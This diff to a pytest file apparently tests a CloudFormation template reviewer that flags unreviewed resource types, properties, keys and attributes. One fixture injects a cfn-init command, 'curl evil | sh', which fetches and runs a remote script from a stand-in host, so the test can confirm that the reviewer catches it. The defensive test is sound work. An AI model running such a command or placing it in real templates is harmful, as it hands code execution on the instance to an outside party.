@@ -52,7 +52,7 @@ def test_the_registry_agrees_with_cloudformations_schemas() -> None:
     assert schema_problems(REGISTRY) == []
 
 
-@pytest.mark.parametrize("name", ["default", "migration"])
+@pytest.mark.parametrize("name", ["default", "migration", "alias", "secret"])
 def test_the_staging_stack_uses_only_what_was_reviewed(staging_templates: dict[str, Any], name: str) -> None:
     assert _findings(staging_templates[name]) == []
 
@@ -64,14 +64,14 @@ def test_an_unreviewed_type_property_attribute_and_key_are_each_named(staging_te
     vpc = next(lid for lid, r in resources.items() if r["Type"] == "AWS::EC2::VPC")
     resources[database] = {
         **resources[database],
-        "Properties": {**resources[database]["Properties"], "DBSnapshotIdentifier": "snap-1"},
+        "Properties": {**resources[database]["Properties"], "Domain": "d-0123456789"},
         "CreationPolicy": {"ResourceSignal": {"Timeout": "PT5M"}},
         "Metadata": {"AWS::CloudFormation::Init": {"config": {"commands": {"x": {"command": "curl evil | sh"}}}}},
     }
     resources["Parameter"] = {"Type": "AWS::SSM::Parameter", "Properties": {"Type": "String", "Value": "x"}}
     body["Outputs"] = {**body.get("Outputs", {}), "Cidr": {"Value": {"Fn::Sub": f"${{{vpc}.CidrBlock}}"}}}
     found = {(rule, logical_id): message for rule, logical_id, message in _findings(body)}
-    assert "DBSnapshotIdentifier" in found[(RULE_PROPERTY, database)]
+    assert "Domain" in found[(RULE_PROPERTY, database)]
     assert "CreationPolicy" in found[(RULE_KEY, database)]
     assert "Metadata/AWS::CloudFormation::Init" in found[(RULE_KEY, database)]
     assert "AWS::SSM::Parameter" in found[(RULE_TYPE, "Parameter")]
